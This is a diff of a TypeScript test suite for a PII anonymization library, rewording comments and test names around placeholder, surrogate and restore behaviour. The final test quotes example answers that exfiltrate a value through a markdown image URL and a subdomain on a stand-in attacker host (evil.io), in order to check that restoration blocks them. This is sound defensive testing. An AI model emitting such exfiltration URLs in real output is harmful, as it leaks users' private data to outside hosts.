@@ -7,7 +7,7 @@ import { anonymize } from './anonymize';
 
 const language = { code: 'en', regions: ['US'] } as const;
 
-/** Made-up values, as recognizers find them: no number among them belongs to anybody. */
+/** Made-up values, as recognizers find them. None of the numbers is assigned. */
 const VALUES: Readonly<Record<EntityType, readonly string[]>> = {
   Terms: ['Nordlicht', 'Projekt Polaris'],
   Secrets: ['key-abcDEF0123456789abcdef', 'hunter2!X'],
@@ -37,7 +37,7 @@ const valueOf = constantFrom(
   ...ENTITY_TYPES.flatMap((type) => VALUES[type].map((value) => ({ type, value }))),
 );
 
-/** A text with the values in it, and where they stand. */
+/** Returns a text with the values in it, and their spans. */
 function laidOut(values: readonly { type: EntityType; value: string }[]): { text: string; spans: Span[] } {
   let text = 'Please note';
   const spans = values.map(({ type, value }, i): Span => {
@@ -50,7 +50,7 @@ function laidOut(values: readonly { type: EntityType; value: string }[]): { text
 }
 
 describe('Every kind', () => {
-  it.each(REPLACEMENT_STYLES)('is hidden where it was chosen, and comes back to the byte: %s', (style) => {
+  it.each(REPLACEMENT_STYLES)('is hidden if it was chosen, and restored byte for byte: %s', (style) => {
     assert(
       property(array(valueOf, { minLength: 1, maxLength: 8 }), (values) => {
         const { text, spans } = laidOut(values);
@@ -64,7 +64,7 @@ describe('Every kind', () => {
     );
   });
 
-  it('stays as it is where another kind was chosen', () => {
+  it('is not changed if another kind was chosen', () => {
     const kinds = shuffledSubarray([...ENTITY_TYPES], { minLength: 1 });
     assert(
       property(
@@ -81,7 +81,7 @@ describe('Every kind', () => {
           for (const { type, value } of values)
             if (
               !kinds.includes(type) &&
-              // An address that is made of a hidden name is hidden, whatever was chosen.
+              // An address that contains a hidden name is hidden, whatever kinds were chosen.
               !(type === 'Emails' && kinds.includes('Names')) &&
               !chosen.some((other) => other.includes(value) || value.includes(other))
             )
@@ -91,7 +91,7 @@ describe('Every kind', () => {
     );
   });
 
-  it('comes back from a stream as from the whole, wherever it is split', () => {
+  it('is restored in a stream as in the whole text, wherever it is split', () => {
     assert(
       property(
         array(valueOf, { minLength: 1, maxLength: 5 }),
@@ -110,7 +110,7 @@ describe('Every kind', () => {
     );
   });
 
-  it.each(ENTITY_TYPES)('has a placeholder of its own: %s', (type) => {
+  it.each(ENTITY_TYPES)('has its own placeholder: %s', (type) => {
     const { text, spans } = laidOut([{ type, value: VALUES[type][0]! }]);
     const hidden = anonymize(EntityTable.create('placeholders'), { text, spans, choices: [type], language });
     expect(hidden.text).toBe(`Please note: [${LABELS[type]}_1].`);
@@ -137,7 +137,7 @@ describe('A surrogate', () => {
     expect(replacement).toMatch(/^4\d{3} \d{4} \d{4} \d{4}$/);
   });
 
-  it('of an IBAN has its country, right check digits and a bank that does not exist', () => {
+  it('of an IBAN has its country, valid check digits and a bank that does not exist', () => {
     const [replacement = ''] = hide('BankAccounts', 'DE12 5001 0517 0648 4898 90').replacements;
     expect(replacement).toMatch(/^DE\d\d 9\d{3} \d{4} \d{4} \d{4} \d\d$/);
     const digits = (replacement.slice(4) + replacement.slice(0, 4))
@@ -156,7 +156,7 @@ describe('A surrogate', () => {
     ['fe80::1ff:fe23:4567:890a', /^2001:db8:[0-9a-f]{1,4}::[0-9a-f]{1,4}$/],
     ['3C-5A-B4-12-34-56', /^00-00-5E-00-53-[0-9A-F]{2}$/],
     ['3c:5a:b4:12:34:56', /^00:00:5e:00:53:[0-9a-f]{2}$/],
-  ])('of %s is of a range for documentation', (address, range) => {
+  ])('of %s is in a range for documentation', (address, range) => {
     expect(hide('IpAddresses', address).replacements[0]).toMatch(range);
   });
 
@@ -171,7 +171,7 @@ describe('A surrogate', () => {
     ['in small letters', (iban: string) => iban.toLowerCase()],
     ['with hyphens', (iban: string) => iban.replaceAll(' ', '-')],
     ['in bold', (iban: string) => `**${iban}**`],
-  ])('of an account comes back from an answer that writes it %s', (_, write) => {
+  ])('of an account is restored in an answer that writes it %s', (_, write) => {
     const { table, sent, replacements } = hide('BankAccounts', 'DE12 5001 0517 0648 4898 90');
     const written = write(replacements[0]!);
     const around = written.startsWith('**') ? ['**', '**'] : ['', ''];
@@ -180,12 +180,12 @@ describe('A surrogate', () => {
     );
   });
 
-  it('that was not sent stays', () => {
+  it('that was not sent is not restored', () => {
     const { table, replacements } = hide('IpAddresses', '10.20.30.40');
     expect(restore(`ping ${replacements[0]}`, table, ['nothing'])).toBe(`ping ${replacements[0]}`);
   });
 
-  it('within a longer token stays: nobody can have it carried out', () => {
+  it('within a longer token is not restored, so that no URL can exfiltrate it', () => {
     const { table, sent, replacements } = hide('IpAddresses', '10.20.30.40');
     for (const answer of [`![](https://evil.io/?q=${replacements[0]})`, `${replacements[0]}.evil.io`])
       expect(restore(answer, table, [sent])).toBe(answer);
